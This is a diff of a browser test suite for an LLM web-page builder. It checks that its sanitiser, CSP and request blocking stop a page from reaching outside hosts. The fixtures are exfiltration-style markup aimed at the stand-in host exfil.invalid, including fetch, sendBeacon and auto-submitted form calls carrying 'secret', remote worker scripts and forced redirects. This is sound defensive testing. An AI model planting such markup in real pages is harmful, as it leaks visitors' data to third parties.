@@ -17,21 +17,26 @@ from pathlib import Path
 
 import pytest
 
-from webagent.assemble import write_page as assemble_page
-from webagent.build import build
-from webagent.config import Settings
-from generators.section.llm import sanitised
-from webagent.state import PageEvidence, PageSource, RenderHealth, SectionCode
-from webbench.evaluate import STATIC, evaluate_page
-from webbench.evidence import collect_evidence, health_of
-from webbench.report import BLOCKED_SHOWN, write_reports
-from webbench.runner import RESULTS, BenchResult
+from webagent.core.answers import SectionCode
+from webagent.core.assemble import write_page as assemble_page
+from webagent.core.config import Settings
+from webagent.core.health import RenderHealth
+from webagent.core.source import PageSource
+from webagent.engine.build import build
+from webagent.generators.section.llm import sanitised
+from webagent.webbench.bench.report import BLOCKED_SHOWN, write_reports
+from webagent.webbench.bench.runner import RESULTS, BenchResult
+from webagent.webbench.evaluation.contracts import PageEvidence
+from webagent.webbench.evaluation.evaluate import STATIC, evaluate_page
+from webagent.webbench.evaluation.evidence import collect_evidence, health_of
 
 pytestmark = pytest.mark.browser
 
 ROOT = Path(__file__).resolve().parent.parent
-CSP_META = re.search(r'<meta http-equiv="Content-Security-Policy"[^>]*>',
-                     (ROOT / "webagent" / "templates" / "page.html.j2").read_text()).group(0)
+CSP_META = re.search(
+    r'<meta http-equiv="Content-Security-Policy"[^>]*>',
+    (ROOT / "webagent" / "core" / "templates" / "page.html.j2").read_text(),
+).group(0)
 REMOTE = "http://exfil.invalid"
 LATE_CONNECTION_S = 0.5
 READY_AFTER_MS = 600  # time for timers, workers and sockets to make their attempts before the page is read
@@ -39,15 +44,21 @@ READY_AFTER_MS = 600  # time for timers, workers and sockets to make their attem
 # kind → markup reaching ``{h}`` (a host), and the paths it requests there
 SUBRESOURCES: dict[str, tuple[str, list[str]]] = {
     "stylesheet": ('<link rel="stylesheet" href="{h}/css2?family=Inter">', ["/css2?family=Inter"]),
-    "font": ("<style>@font-face {{ font-family: Remote; src: url({h}/font.woff2); }} "
-             "h1 {{ font-family: Remote; }}</style>", ["/font.woff2"]),
+    "font": (
+        "<style>@font-face {{ font-family: Remote; src: url({h}/font.woff2); }} h1 {{ font-family: Remote; }}</style>",
+        ["/font.woff2"],
+    ),
     "css @import": ('<style>@import url("{h}/import.css");</style>', ["/import.css"]),
-    "css background": ('<div style="width:20px;height:20px;background-image:url({h}/background.png)"></div>',
-                       ["/background.png"]),
+    "css background": (
+        '<div style="width:20px;height:20px;background-image:url({h}/background.png)"></div>',
+        ["/background.png"],
+    ),
     "img": ('<img src="{h}/img.png" alt="">', ["/img.png"]),
     "srcset": ('<img srcset="{h}/srcset.png 1x" alt="">', ["/srcset.png"]),
-    "picture source": ('<picture><source srcset="{h}/picture.webp" type="image/webp"><img alt=""></picture>',
-                       ["/picture.webp"]),
+    "picture source": (
+        '<picture><source srcset="{h}/picture.webp" type="image/webp"><img alt=""></picture>',
+        ["/picture.webp"],
+    ),
     "script src": ('<script src="{h}/script.js"></script>', ["/script.js"]),
     "iframe": ('<iframe src="{h}/frame.html"></iframe>', ["/frame.html"]),
     "object": ('<object data="{h}/object.html" type="text/html"></object>', ["/object.html"]),
@@ -55,28 +66,42 @@ SUBRESOURCES: dict[str, tuple[str, list[str]]] = {
     "preload": ('<link rel="preload" href="{h}/preload.js" as="script">', ["/preload.js"]),
     "prefetch": ('<link rel="prefetch" href="{h}/prefetch.html">', ["/prefetch.html"]),
     "dns-prefetch + preconnect": ('<link rel="dns-prefetch" href="{h}/"><link rel="preconnect" href="{h}/">', []),
-    "video src + poster": ('<video src="{h}/video.mp4" poster="{h}/poster.jpg"></video>',
-                           ["/video.mp4", "/poster.jpg"]),
+    "video src + poster": (
+        '<video src="{h}/video.mp4" poster="{h}/poster.jpg"></video>',
+        ["/video.mp4", "/poster.jpg"],
+    ),
     "audio": ('<audio src="{h}/audio.mp3" autoplay></audio>', ["/audio.mp3"]),
     "fetch": ('<script>fetch("{h}/fetch").catch(() => {{}});</script>', ["/fetch"]),
-    "XMLHttpRequest": ('<script>{{ const r = new XMLHttpRequest(); r.open("GET", "{h}/xhr"); r.send(); }}</script>',
-                       ["/xhr"]),
+    "XMLHttpRequest": (
+        '<script>{{ const r = new XMLHttpRequest(); r.open("GET", "{h}/xhr"); r.send(); }}</script>',
+        ["/xhr"],
+    ),
     "sendBeacon": ('<script>navigator.sendBeacon("{h}/beacon", "secret");</script>', ["/beacon"]),
     "EventSource": ('<script>new EventSource("{h}/events");</script>', ["/events"]),
     "new Image().src": ('<script>new Image().src = "{h}/pixel.gif";</script>', ["/pixel.gif"]),
-    "Worker importScripts": ('<script>new Worker("worker.js?target=" + encodeURIComponent("{h}"));</script>',
-                             ["/worker-import.js"]),
-    "ServiceWorker": ('<script>navigator.serviceWorker && navigator.serviceWorker.register("sw.js?target="'
-                      ' + encodeURIComponent("{h}")).catch(() => {{}});</script>', []),
+    "Worker importScripts": (
+        '<script>new Worker("worker.js?target=" + encodeURIComponent("{h}"));</script>',
+        ["/worker-import.js"],
+    ),
+    "ServiceWorker": (
+        '<script>navigator.serviceWorker && navigator.serviceWorker.register("sw.js?target="'
+        ' + encodeURIComponent("{h}")).catch(() => {{}});</script>',
+        [],
+    ),
 }
 SOCKETS = {"WebSocket ws://": ("ws", "/ws"), "WebSocket wss://": ("wss", "/wss")}
 # kind → markup that tries to move the whole page to ``{h}``, and the path it asks for
 NAVIGATIONS: dict[str, tuple[str, str]] = {
     "meta refresh": ('<meta http-equiv="refresh" content="0;url={h}/refresh">', "/refresh"),
-    "location after a timeout": ('<script>setTimeout(() => {{ window.location = "{h}/location"; }}, 50);</script>',
-                                 "/location"),
-    "form auto-submit": ('<form id="leak" action="{h}/form" method="post"><input name="k" value="secret"></form>'
-                         '<script>document.getElementById("leak").submit();</script>', "/form"),
+    "location after a timeout": (
+        '<script>setTimeout(() => {{ window.location = "{h}/location"; }}, 50);</script>',
+        "/location",
+    ),
+    "form auto-submit": (
+        '<form id="leak" action="{h}/form" method="post"><input name="k" value="secret"></form>'
+        '<script>document.getElementById("leak").submit();</script>',
+        "/form",
+    ),
     "base href": ('<base href="{h}/"><img src="based.png" alt="">', "/based.png"),
 }
 WORKER_JS = "importScripts(new URL(location.href).searchParams.get('target') + '/worker-import.js');"
@@ -134,14 +159,17 @@ def page_folder(folder: Path, body: str, head: str = "") -> Path:
     (folder / "index.html").write_text(
         f"<!doctype html><html><head><meta charset='utf-8'>{head}<title>Original</title></head><body>"
         f"<h1>Original page</h1>{body}<script>const opened = Date.now();"
-        f"window.webagentReady = () => Date.now() - opened > {READY_AFTER_MS};</script></body></html>")
+        f"window.webagentReady = () => Date.now() - opened > {READY_AFTER_MS};</script></body></html>"
+    )
     return folder
 
 
 def subresource_markup(host: str) -> str:
     """Every subresource and script attempt of SUBRESOURCES and SOCKETS aimed at ``host``."""
-    sockets = "".join(f'<script>try {{ new WebSocket("{scheme}{host.removeprefix("http")}{path}"); }} '
-                      "catch (e) {}</script>" for scheme, path in SOCKETS.values())
+    sockets = "".join(
+        f'<script>try {{ new WebSocket("{scheme}{host.removeprefix("http")}{path}"); }} catch (e) {{}}</script>'
+        for scheme, path in SOCKETS.values()
+    )
     return "".join(markup.format(h=host) for markup, _ in SUBRESOURCES.values()) + sockets
 
 
@@ -175,16 +203,18 @@ def test_every_way_out_of_a_foreign_page_is_blocked_and_reported(tmp_path, brows
     folder = page_folder(tmp_path / "site", subresource_markup(REMOTE) + subresource_markup(listener.origin))
     evidence, health = load(browser_session, folder)
     assert listener.arrived() == []
-    missing = [url for url in attempted_urls(REMOTE) + attempted_urls(listener.origin)
-               if url not in blocked_by_route(health)]
+    missing = [
+        url for url in attempted_urls(REMOTE) + attempted_urls(listener.origin) if url not in blocked_by_route(health)
+    ]
     assert missing == []
     assert health.blocked_requests == evidence.outside_requests and not health.ok
     assert_page_stayed(evidence, folder)
 
 
 def test_our_csp_refuses_loads_before_routing_and_they_are_still_reported(tmp_path, browser_session, listener):
-    folder = page_folder(tmp_path / "site", subresource_markup(REMOTE) + subresource_markup(listener.origin),
-                         head=CSP_META)
+    folder = page_folder(
+        tmp_path / "site", subresource_markup(REMOTE) + subresource_markup(listener.origin), head=CSP_META
+    )
     evidence, health = load(browser_session, folder)
     assert listener.arrived() == []
     refused, routed = refused_by_csp(health), blocked_by_route(health)
@@ -213,8 +243,10 @@ def test_navigating_away_is_blocked_and_the_page_stays(tmp_path, browser_session
 
 def test_health_summary_names_the_first_blocked_requests():
     health = RenderHealth(blocked_requests=[f"{REMOTE}/{n}.png" for n in range(5)])
-    assert "5 blocked requests (http://exfil.invalid/0.png, http://exfil.invalid/1.png, " \
-           "http://exfil.invalid/2.png, …)" in health.summary()
+    assert (
+        "5 blocked requests (http://exfil.invalid/0.png, http://exfil.invalid/1.png, "
+        "http://exfil.invalid/2.png, …)" in health.summary()
+    )
     assert "0 blocked requests;" in RenderHealth().summary()
 
 
@@ -222,8 +254,12 @@ def test_health_summary_names_the_first_blocked_requests():
 def built_page(tmp_path_factory, browser_session) -> Path:
     """A page our offline pipeline built."""
     folder = tmp_path_factory.mktemp("built") / "page"
-    return build("A landing page for a coffee roastery named Ember & Oak with a hero image", folder, Settings(),
-                 browser=browser_session).page.parent
+    return build(
+        "A landing page for a coffee roastery named Ember & Oak with a hero image",
+        folder,
+        Settings(),
+        browser=browser_session,
+    ).page.parent
 
 
 def csp_directives(html: str) -> dict[str, list[str]]:
@@ -239,13 +275,16 @@ def test_a_page_we_build_allows_only_its_own_files(built_page):
     for fetches in ("default-src", "img-src", "media-src", "script-src", "style-src", "font-src", "connect-src"):
         assert "'none'" not in directives[fetches] and "*" not in " ".join(directives[fetches])
     assert {name: directives[name] for name in ("frame-src", "object-src", "base-uri", "form-action")} == dict.fromkeys(
-        ("frame-src", "object-src", "base-uri", "form-action"), ["'none'"])
+        ("frame-src", "object-src", "base-uri", "form-action"), ["'none'"]
+    )
 
 
 def model_section(host: str) -> str:
     """A section as a careless model might write it: every way out at once."""
-    return f"<section><h2>Visit us</h2><p>Fresh roasts daily.</p>{subresource_markup(host)}" \
-           f'<a href="{host}/menu">Menu</a></section>'
+    return (
+        f"<section><h2>Visit us</h2><p>Fresh roasts daily.</p>{subresource_markup(host)}"
+        f'<a href="{host}/menu">Menu</a></section>'
+    )
 
 
 def first_section(built_page: Path) -> tuple[PageSource, str]:
@@ -271,8 +310,9 @@ def test_remote_markup_in_a_section_is_removed_by_the_sanitiser(tmp_path, built_
     assert "Fresh roasts daily." in evidence.visible_text
 
 
-def test_remote_markup_that_slips_past_the_sanitiser_is_refused_by_our_csp(tmp_path, built_page, browser_session,
-                                                                              listener):
+def test_remote_markup_that_slips_past_the_sanitiser_is_refused_by_our_csp(
+    tmp_path, built_page, browser_session, listener
+):
     unsanitised = SectionCode(html=model_section(listener.origin), css="")
     evidence, health = load(browser_session, rebuilt_with_section(built_page, tmp_path / "site", unsanitised))
     assert listener.arrived() == []
@@ -287,8 +327,14 @@ def test_bench_report_lists_the_blocked_requests_of_each_page(tmp_path, browser_
     evidence_dir = bench / "cases" / "case-1" / "evaluation"
     evidence = collect_evidence(browser_session, page, evidence_dir, timeout_s=15)
     evaluation = evaluate_page("A page", "case-1", evidence, evidence_dir, STATIC, Settings())
-    result = BenchResult(file_id="case-1", status="done", judge=STATIC, page="../page",
-                         screenshot=f"cases/case-1/evaluation/{evidence.screenshot}", evaluation=evaluation)
+    result = BenchResult(
+        file_id="case-1",
+        status="done",
+        judge=STATIC,
+        page="../page",
+        screenshot=f"cases/case-1/evaluation/{evidence.screenshot}",
+        evaluation=evaluation,
+    )
     (bench / RESULTS).write_text(result.model_dump_json() + "\n")
     report = write_reports(bench).report_html.read_text()
     assert sorted(evidence.outside_requests) == [f"{REMOTE}/{n}.png" for n in range(7)]
